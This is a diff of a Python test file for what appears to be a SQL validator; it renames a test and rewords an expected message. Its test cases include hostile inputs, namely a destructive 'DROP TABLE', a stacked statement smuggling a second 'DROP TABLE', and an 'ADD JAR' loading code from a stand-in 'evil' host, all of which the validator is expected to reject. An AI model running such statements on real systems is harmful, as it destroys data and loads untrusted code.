@@ -41,7 +41,7 @@ def generated(text: str) -> str:
         ("SELECT * FROM t, LATERAL (SELECT a) e", "without VIEW and a call"),
         ("SELECT ${hiveconf:x} FROM t", "PARAMETER"),
         ("SELECT * FROM t TABLESAMPLE (10 PERCENT)", "SAMPLE"),
-        ("DROP TABLE t", "no query"),
+        ("DROP TABLE t", "not a query"),
         ("SELECT 1; DROP TABLE t", "one statement"),
         ("ADD JAR 'http://evil/x.jar'", "It cannot be read at"),
         ("", "one statement"),
@@ -91,7 +91,7 @@ def test_spark_gets_what_was_understood_and_not_the_text(text: str, expected: st
     assert generated(text).lower() == expected.lower()
 
 
-def test_a_view_that_says_what_reports_say_passes() -> None:
+def test_a_consistent_view_is_accepted() -> None:
     text = """
         WITH recent AS (SELECT * FROM orders WHERE day >= date_sub(current_date, 7))
         SELECT c.name, count(DISTINCT r.id) AS n, sum(CASE WHEN r.paid THEN r.amount ELSE 0 END),
